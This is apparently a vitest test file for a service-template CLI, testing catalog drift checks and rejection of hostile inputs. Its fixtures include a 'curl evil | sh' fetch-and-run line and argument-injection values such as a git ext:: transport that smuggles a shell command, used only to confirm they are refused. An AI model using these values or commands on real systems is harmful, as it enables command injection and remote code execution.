import { existsSync, readdirSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { isolatedEnv, runBin } from '../helpers/run-bin.js';
import { templateRepo, type TemplateRepo } from '../helpers/template-repo.js';
import { gitSync, testdir, writeTree } from '../helpers/testdir.js';

/**
 * A template served from a git catalog whose managed CI file runs the drift check with the
 * catalog it came from, through the reserved variable: the check must pass on a runner that
 * has no user config, and without the flag it must be a finding, not a fetch.
 */
const CI =
  'run: platform check{{#if @platform.template.catalog}} --catalog {{@platform.template.catalog}}{{/if}}\n';

let repo: TemplateRepo;

beforeAll(async () => {
  repo = await templateRepo({
    versions: {
      '1.0.0': {
        files: { 'ci.yml.hbs': CI, 'README.md.hbs': '# {{name}}\n' },
        manifest: { files: { managed: ['ci.yml'] } },
      },
    },
  });
});

/** Renders `svc` from the git catalog with --catalog, committed; returns its folder. */
async function renderFromRepo(): Promise<string> {
  const parent = await testdir();
  const made = await runBin(
    'create-service',
    ['svc', '-t', 'svc', '--set', 'name=svc', '-y', '--no-install', '--catalog', repo.catalog],
    { cwd: parent, env: await isolatedEnv() },
  );
  expect(made.exitCode, made.stderr).toBe(0);
  return path.join(parent, 'svc');
}

const cacheHasCatalogs = (env: Record<string, string>) =>
  existsSync(path.join(env.XDG_CACHE_HOME!, 'platform', 'catalogs'));

describe('a service rendered from a git catalog', () => {
  it('gets a CI check that names its catalog, and that check passes with no user config', async () => {
    const parent = await testdir();
    const made = await runBin(
      'create-service',
      [
        'orders',
        '-t',
        'svc',
        '--set',
        'name=orders',
        '-y',
        '--no-install',
        '--catalog',
        repo.catalog,
      ],
      { cwd: parent, env: await isolatedEnv() },
    );
    expect(made.exitCode, made.stderr).toBe(0);
    const dir = path.join(parent, 'orders');
    const ci = await readFile(path.join(dir, 'ci.yml'), 'utf8');
    expect(ci).toBe(`run: platform check --catalog ${repo.catalog}\n`);
    // The exact command of the CI file, on a fresh runner: no user config, an empty cache.
    const args = ci
      .trim()
      .replace(/^run: platform /, '')
      .split(' ');
    const runner = await isolatedEnv();
    const check = await runBin('platform', args, { cwd: dir, env: runner });
    expect(check.exitCode, check.stdout + check.stderr).toBe(0);

    // Without the flag the recorded catalog is only a label: a finding with the fix, no fetch.
    const bare = await isolatedEnv();
    const unflagged = await runBin('platform', ['check'], { cwd: dir, env: bare });
    expect(unflagged.exitCode).toBe(1);
    expect(unflagged.stdout).toContain('template.unknown');
    expect(unflagged.stdout).toContain(`catalogs: ["${repo.catalog}"]`);
    expect(unflagged.stdout).toContain(`--catalog ${repo.catalog}`);
    expect(cacheHasCatalogs(bare)).toBe(false);
  });

  it('a state file naming a folder inside the repo is never rendered from', async () => {
    const dir = await renderFromRepo();
    // The attacker commits a catalog inside the repo and points the state file at it.
    const statePath = path.join(dir, '.platform/service.json');
    const state = JSON.parse(await readFile(statePath, 'utf8')) as {
      template: { catalog: string };
    };
    await writeTree(dir, {
      'evil/svc/1.0.0/template.yaml':
        'schemaVersion: 1\nid: svc\nversion: 1.0.0\nname: E\ndescription: E\nfiles:\n  managed: ["ci.yml"]\n',
      'evil/svc/1.0.0/files/ci.yml': 'run: curl evil | sh\n',
      '.platform/service.json': JSON.stringify({
        ...state,
        template: { ...state.template, catalog: 'evil' },
      }),
    });
    const fix = await runBin('platform', ['doctor', '--fix'], {
      cwd: dir,
      env: await isolatedEnv(),
    });
    expect(fix.exitCode).toBe(1);
    expect(fix.stdout).toContain('template.unknown');
    expect(await readFile(path.join(dir, 'ci.yml'), 'utf8')).not.toContain('evil');
  });
});

/** Bad inputs this stream handles: each is exit 2, names the field, and writes nothing. */
const BAD_INPUTS: { name: string; args: string[]; env?: Record<string, string>; field: RegExp }[] =
  [
    {
      name: 'a git URL that starts with -',
      args: ['--catalog', 'git+-uhack'],
      field: /catalog "git\+-uhack": a git URL must not start with "-"/,
    },
    {
      name: 'an option-like folder catalog',
      args: ['--catalog=-oProxy'],
      field: /catalog source "-oProxy" starts with "-"/,
    },
    {
      name: 'the ext:: transport',
      args: ['--catalog', 'git+ext::sh -c touch% MARKER'],
      field: /catalog "git\+ext::sh -c touch% MARKER" uses a git transport that is not allowed/,
    },
    {
      name: 'the fd:: transport',
      args: ['--catalog', 'git+fd::3'],
      field: /catalog "git\+fd::3" uses a git transport/,
    },
    {
      name: 'plain http',
      args: ['--catalog', 'git+http://127.0.0.1:9/t.git'],
      field: /catalog "git\+http:\/\/127\.0\.0\.1:9\/t\.git" uses a git transport/,
    },
    {
      name: 'an unknown scheme',
      args: ['--catalog', 'git+gopher://x/t.git'],
      field: /catalog "git\+gopher:\/\/x\/t\.git" uses a git transport/,
    },
    {
      name: 'an empty git URL',
      args: ['--catalog', 'git+'],
      field: /catalog "git\+" names no repository/,
    },
    {
      name: 'an endpoint variable that is not http(s)',
      args: [],
      env: { PLATFORM_TELEMETRY_ENDPOINT: 'ftp://u:hunter2@x/' },
      field: /PLATFORM_TELEMETRY_ENDPOINT is not an http\(s\) URL: ftp:\/\/\*\*\*:\*\*\*@x\//,
    },
    {
      name: 'an endpoint variable that is not a URL',
      args: [],
      env: { PLATFORM_TELEMETRY_ENDPOINT: 'events' },
      field: /PLATFORM_TELEMETRY_ENDPOINT is not an http\(s\) URL/,
    },
    {
      name: 'a format variable that is not json or otlp',
      args: [],
      env: { PLATFORM_TELEMETRY_FORMAT: 'xml' },
      field: /PLATFORM_TELEMETRY_FORMAT must be json or otlp/,
    },
  ];

describe('bad input: catalogs and telemetry variables', () => {
  it.each(BAD_INPUTS)('create-service: $name', async ({ args, env: extra, field }) => {
    const cwd = await testdir();
    const env = await isolatedEnv(extra);
    const run = await runBin(
      'create-service',
      ['svc', '-t', 'svc', '--set', 'name=svc', '-y', '--no-install', ...args],
      { cwd, env },
    );
    expect(run.exitCode, run.stderr).toBe(2);
    expect(run.stderr).toMatch(field);
    expect(run.stderr).not.toContain('hunter2');
    expect(readdirSync(cwd)).toEqual([]);
    expect(cacheHasCatalogs(env)).toBe(false);
  });

  it.each(BAD_INPUTS.filter((row) => row.args.length > 0))(
    'platform check: $name',
    async ({ args, field }) => {
      const dir = await renderFromRepo();
      const before = readdirSync(dir).sort();
      const runner = await isolatedEnv();
      const run = await runBin('platform', ['check', ...args], { cwd: dir, env: runner });
      expect(run.exitCode, run.stderr).toBe(2);
      expect(run.stderr).toMatch(field);
      expect(readdirSync(dir).sort()).toEqual(before);
      expect(gitSync(dir, 'status', '--porcelain')).toBe('');
      expect(cacheHasCatalogs(runner)).toBe(false);
    },
  );
});
